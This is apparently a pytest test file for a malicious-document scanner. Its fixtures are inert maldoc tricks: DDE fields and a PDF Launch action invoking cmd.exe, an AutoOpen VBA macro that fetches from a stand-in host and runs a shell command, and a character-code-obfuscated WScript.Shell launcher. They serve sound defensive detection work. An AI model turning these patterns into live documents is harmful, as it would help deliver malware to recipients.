"""Documents: each trick by itself, the macros of the specification's examples, bounds and damage. All contents are inert texts."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib

import pytest

from commodore.artefacts.content import documents
from commodore.evidence import Evidence
from commodore.readers.calls import CallCount
from commodore.readers.documents import model, read
from commodore.readers.documents.fields import document_fields
from commodore.readers.documents.vba import decompress
from commodore.record import Problem, Record
from tests.commodore.damage import HOST, damaged

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def office(parts: dict[str, str | bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationships><Relationship Id="r1" Type="{RELATIONS}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


@pytest.mark.parametrize(
    ("compressed", "text"),
    [
        ("0119B000616263646566676800696A6B6C6D6E6F700071727374757676 2E".replace("7676 2E", "762E"), b"abcdefghijklmnopqrstuv."),
        (
            "012FB00023616161626364658266007061676869 6A013808616B6C00306D6E6F700671027004107273747576107778797A003C".replace(" ", ""),
            b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
        ),
        ("0103B002614500", b"a" * 73),
    ],
)
def test_the_examples_of_the_specification_are_decompressed(compressed, text):
    """[MS-OVBA] 3.2: no compression, normal and maximum compression."""
    assert decompress(bytes.fromhex(compressed)) == text


EQUATION = (
    rb"{\rtf1{\object{\*\objdata 01050000 02000000 0b000000 4571756174696f6e2e3300 "
    rb"0000000000000000 04000000 41424344}}}"
)
HIDDEN = rb"{\rtf1{\object{\*\objdata 01\aa0500\bb00 02\cc0000\dd00 0b\ee00\ff00 00\gg00{\hh}\ii\jj\kk 4142}}}"
TEMPLATE = "word/_rels/settings.xml.rels"
DDE = '<w:instrText>DDEAU</w:instrText><w:instrText>TO c:\\\\cmd.exe "/k echo"</w:instrText>'
SHEETS = {"xl/workbook.xml": '<sheet name="m" state="veryHidden"/>', "xl/macrosheets/sheet1.xml": "<c><f>EXEC(1)</f></c>"}


DOCUMENTS = {
    "remote template": (office({TEMPLATE: relation("attachedTemplate", "http://r.example.invalid/a.dotm")}), "remote-template", "medium"),
    "template on the disk": (office({TEMPLATE: relation("attachedTemplate", "file:///C:/x/Normal.dotm")}), "", ""),
    "remote object": (office({"word/_rels/document.xml.rels": relation("oleObject", "https://r.example.invalid/a")}), "remote-object", ""),
    "link of a reader": (office({"word/_rels/document.xml.rels": relation("hyperlink", "https://r.example.invalid/a")}), "", ""),
    "dde": (office({"word/document.xml": DDE}), "dde", "medium"),
    "dde of a workbook": (office({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c"/>'}), "dde", "medium"),
    "old macros": (office(SHEETS), "old-macros", ""),
    "program": (office({"word/embeddings/oleObject1.bin": b"MZ inert"}), "carries-program", "medium"),
    "equation": (EQUATION, "equation-object", "medium"),
    "hidden data": (HIDDEN, "hidden-object-data", ""),
    "launch": (b"%PDF-1.4\n1 0 obj <</S/Launch /F (cmd.exe) /Win <</P (/c echo inert)>>>> endobj", "pdf-launch", "medium"),
    "hidden names": (b"%PDF-1.4\n1 0 obj <</S/#4aavaScript /JS (app.alert\\(1\\))>> endobj", "pdf-hidden-names", ""),
    "plain pdf": (b"%PDF-1.4\n1 0 obj <</S/URI /URI (https://forms.example/)>> endobj", "", ""),
}


@pytest.mark.parametrize("kind", DOCUMENTS)
def test_each_trick_is_a_trait(kind):
    data, trait, severity = DOCUMENTS[kind]
    fields = record(data)
    assert (trait in fields.get("escadre.traits.ids", [])) if trait else "escadre.traits.ids" not in fields, fields
    assert fields.get("escadre.severity", "") == severity


def record(data: bytes, name: str = "a.bin") -> dict:
    (found,) = (item for item in documents.parse(Evidence(f"/x/{name}", data), HOST) if isinstance(item, Record))
    return found.fields


def test_actions_in_compressed_streams_and_objects():
    code = b"app.launchURL('http://j.example.invalid/x');"
    inner = b"5 0 6 9 <</S/JavaScript/JS 3 0 R>> <</S/URI/URI(http://u.example.invalid/\\(a\\))>>"
    pdf = b"%PDF-1.7\n3 0 obj <</Filter/FlateDecode>> stream\n" + zlib.compress(code) + b"\nendstream endobj\n"
    pdf += b"4 0 obj <</Type/ObjStm/N 2/First 8/Filter/FlateDecode>> stream\r\n" + zlib.compress(inner) + b"\r\nendstream endobj\n"
    fields = record(pdf)
    assert fields["escadre.found.urls"] == ["http://j.example.invalid/x"]
    assert fields["escadre.document.links"] == ["http://u.example.invalid/(a)"]


def test_files_in_a_pdf_and_in_a_onenote_section():
    pdf = b"%PDF-1.7\n1 0 obj <</Type/Filespec/UF (inv.pdf.exe)/EF<</F 2 0 R>>>> endobj "
    pdf += b"2 0 obj <</Type/EmbeddedFile>> stream\nMZ inert\nendstream"
    fields = record(pdf)
    assert fields["escadre.document.embedded"] == ["inv.pdf.exe"]
    assert {"carries-program", "disguised-name"} <= set(fields["escadre.traits.ids"])
    assert fields["escadre.severity"] == "high"
    script = b"WScript.CreateObject('WScript.Shell') // inert"
    one = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000)
    one += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(script), 0, 0) + script
    assert record(one)["escadre.document.embedded"] == ["file 1"]


def test_a_message():
    text = (
        b"From: =?utf-8?b?SsO8cmdlbg==?= <a@mail.example.invalid>\nTo: b@town.example, c@town.example\nSubject: =?utf-8?q?R=C3=BC?=\n"
        b"Date: Sat, 31 Oct 2026 20:00:00 +0100\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=X\n\n--X\n"
        b"Content-Type: text/html\n\n"
        b'<a href="http://x.example.invalid/a">https://bank.example/login</a> <a href="https://town.example/a">more</a>\n--X\n'
        b'Content-Disposition: attachment; filename="a.js"\n\nnew ActiveXObject("WScript.Shell") // inert\n--X--\n'
    )
    fields = record(text, "a.eml")
    assert fields["email.from.address"] == ["a@mail.example.invalid"]
    assert fields["email.to.address"] == ["b@town.example", "c@town.example"]
    assert fields["email.subject"] == "Rü"
    assert fields["email.origination_timestamp"] == "2026-10-31T19:00:00Z"
    assert fields["escadre.document.embedded"] == ["a.js"]
    assert set(fields["escadre.traits.ids"]) == {"other-address-shown", "carries-script", "script-host-run"}


def test_text_that_only_has_the_name_of_a_message_is_no_document():
    (said,) = documents.parse(Evidence("/x/a.eml", b"hello\nworld\n"), HOST)
    assert isinstance(said, Problem)
    assert "no header" in said.reason
    (inner,) = documents.parse(Evidence("/x/a.eml", b"From: a@b.example\r\nMIME-Version: 1.0\r\n\r\nhello\r\n"), HOST)
    assert isinstance(inner, Record)


MESSAGE = (
    b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=X\r\n\r\n"
    b"--X\r\nContent-Disposition: attachment; filename=a.js\r\n\r\ninert\r\n--X--\r\n"
)


@pytest.mark.parametrize("before", [b"From", b"Subject", b"MIME", b"Content-Type"])
def test_a_line_among_the_headers_that_is_none_hides_no_attachment(before):
    """The parser of Python takes all behind such a line for the text of the message."""
    odd = MESSAGE.replace(before, b"\0odd line\r\n" + before, 1)
    found = read(odd, "a.eml")
    assert [part.name for part in found.embedded] == ["a.js"]
    assert list(found.troubles) == ["1 line among the headers is no header and was left out"]
    counted = read(b"%d\n" % len(MESSAGE) + MESSAGE, "a.emlx")
    assert [part.name for part in counted.embedded] == ["a.js"]
    assert not counted.troubles


def test_a_package_whose_directory_hides_its_first_part_is_still_a_document():
    data = office({"word/document.xml": "<x/>"})
    at = data.rindex(b"[Content_Types].xml")
    (said, record) = documents.parse(Evidence("/x/a.docx", data[:at] + b"_" + data[at + 1 :]), HOST)
    assert "does not name [Content_Types].xml" in said.reason
    assert record.fields["escadre.format"] == "Word (OOXML)"
    assert list(documents.parse(Evidence("/x/a.zip", b"PK\3\4" + bytes(60)), HOST))[-1:] != []


def test_a_macro_that_downloads_and_runs_is_high():
    macro = (
        'Sub AutoOpen()\nSet x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://m.example.invalid/a"\n'
        'Set s = CreateObject("WScr" & "ipt.Shell")\ns.Run "cmd /c echo inert", 0\nEnd Sub'
    )
    document = model.Document("a.docm", "Word (OOXML)", macros=[("ThisDocument", macro)])
    document.trait("macros", "ThisDocument")
    document.trait("auto-run", "AutoOpen")
    assert document_fields(document)["escadre.severity"] == "high"


def test_bombs_and_circles_are_bounded_and_said(monkeypatch):
    monkeypatch.setattr(model, "TOTAL", 4 << 20)
    bomb = b"".join(
        b"%d 0 obj <</Type/ObjStm/Filter/FlateDecode>> stream\n" % n + zlib.compress(bytes(2 << 20)) + b"\nendstream\n" for n in range(20)
    )
    document = read(b"%PDF-1.7\n" + bomb, "a.pdf")
    assert document is not None
    assert document.spent <= 4 << 20
    assert document.bounds
    inner = office({"word/document.xml": b"x"})
    for _ in range(8):
        inner = office({"word/embeddings/a.docx": inner})
    nested = read(inner, "a.docx")
    assert nested is not None
    assert any("deep" in bound for bound in nested.bounds)
    big = read(office({"word/document.xml": bytes(8 << 20)}), "b.docx")
    assert big is not None
    assert big.bounds


def compound(next_of_first: int) -> bytes:
    """A compound file of four sectors whose chain of the directory leads to itself."""
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<128I", 0xFFFFFFFD, next_of_first, *[0xFFFFFFFF] * 126)
    name = "Root Entry\0".encode("utf-16-le")
    root = name.ljust(64, b"\0") + struct.pack("<HBBIII", len(name), 5, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    root += bytes(36) + struct.pack("<IQ", 0xFFFFFFFE, 0)
    return head + table + root.ljust(512, b"\0")


@pytest.mark.parametrize("next_of_first", [0xFFFFFFFE, 1, 2, 100_000])
def test_ole_chains_that_are_circles(next_of_first):
    with CallCount().counting(20_000):
        assert all(isinstance(item, Record | Problem) for item in documents.parse(Evidence("/x/a.doc", compound(next_of_first)), HOST))


@pytest.mark.parametrize("kind", [*DOCUMENTS, "ole"])
def test_damage_is_no_exception(kind):
    data = DOCUMENTS[kind][0] if kind in DOCUMENTS else compound(0xFFFFFFFE)
    for number, bad in enumerate(damaged(data)):
        if number % 5 == 0:
            for item in documents.parse(Evidence("/x/a.eml", bad), HOST):
                assert isinstance(item, Record | Problem)


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-" + b"/JS (" * 4_000,
        b"%PDF-" + b"(" * 200_000,
        b"%PDF-" + b"/Launch" * 30_000,
        b"%PDF-" + b"stream" * 50_000,
        b"{\\rt" + b"\\objdata" * 5_000,
        b"{\\rt" + b"{" * 300_000,
        b"%PDF-" + b"/URI(\\" * 4_000,
        b"From: a\n\n" + b"<a href='" * 30_000,
        b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + b"<a " * 80_000,
    ],
)
def test_hostile_text_costs_bounded_work(data):
    """Each costs the square of its length where a reader begins anew at every place; `tests/test_patterns.py` is about patterns."""
    with CallCount().counting(200 * len(data) + 20_000):
        list(documents.parse(Evidence("/x/a.eml", data), HOST))


@pytest.mark.parametrize(("unended", "links"), [(4_000, {"", "http://a.example"}), (50_000, {""})])
def test_many_texts_that_do_not_end_are_a_bound_which_is_said(unended, links):
    *problems, record = documents.parse(Evidence("/x/a.pdf", b"%PDF-" + b"/URI(\\" * unended + b"/URI(http://a.example)"), HOST)
    assert set(record.fields["escadre.document.links"]) == links
    assert [problem.reason for problem in problems] == record.fields.get("escadre.bounds", [])
    assert bool(problems) == (unended > 4_096)


def in_it(data: bytes, name: str = "a.bin") -> dict[str, bytes]:
    return {layer.name: layer.data for layer in documents.contents(Evidence(f"/x/{name}", data))}


HIDDEN_SCRIPT = (
    "eval(String.fromCharCode(" + ",".join(map(str, b"new ActiveXObject('WScript.Shell').Run('http://a.example.invalid/') // inert")) + "))"
)


def test_what_is_decoded_in_a_document_is_there_for_searches():
    """A mailbox whose second message carries an archive with a script, and a PDF whose script is behind two filters."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("invoice.js", HIDDEN_SCRIPT)
    page = base64.encodebytes(b"<script>" + HIDDEN_SCRIPT.encode() + b"</script>").decode()
    mail = "From a@b Mon Jan  1 00:00:00 2024\nFrom: a@b.example\nSubject: one\n\nhello\n\nFrom c@d Mon Jan  1 00:00:00 2024\n"
    mail += "From: c@d.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=X\n\n--X\nContent-Type: text/html\n"
    mail += f"Content-Transfer-Encoding: base64\n\n{page}\n--X\nContent-Disposition: attachment; filename=i.zip\n"
    mail += f"Content-Transfer-Encoding: base64\n\n{base64.encodebytes(packed.getvalue()).decode()}\n--X--\n"
    found = in_it(mail.encode(), "a.mbox")
    assert found["i.zip/invoice.js"] == HIDDEN_SCRIPT.encode()
    assert b"http://a.example.invalid/" in found["i.zip/invoice.js > character codes"]
    assert b"http://a.example.invalid/" in found["page > character codes"]
    fields = record(mail.encode(), "a.mbox")
    assert {"carries-script", "hidden-in-layers"} <= set(fields["escadre.traits.ids"])
    assert fields["email.subject"] == "one"
    code = base64.a85encode(zlib.compress(HIDDEN_SCRIPT.encode())) + b"~>"
    pdf = b"%PDF-1.5\n1 0 obj<</S/JavaScript/JS 2 0 R>>endobj\n2 0 obj<</Filter[/ASCII85Decode/FlateDecode]>>stream\n" + code
    pdf += b"\nendstream endobj\n"
    assert b"http://a.example.invalid/" in in_it(pdf)["JavaScript > character codes"]
    digits = b"%PDF-1.5\n1 0 obj<</S/JavaScript/JS 2 0 R>>endobj\n2 0 obj<</Filter/AHx>>stream\n" + HIDDEN_SCRIPT.encode().hex().encode()
    assert b"http://a.example.invalid/" in in_it(digits + b">\nendstream endobj\n")["JavaScript > character codes"]


def test_a_script_without_a_name_is_known_by_its_words():
    one = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000)
    one += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(HIDDEN_SCRIPT), 0, 0) + HIDDEN_SCRIPT.encode()
    assert "hidden-in-layers" in record(one)["escadre.traits.ids"]
    assert b"http://a.example.invalid/" in in_it(one)["file 1 > character codes"]
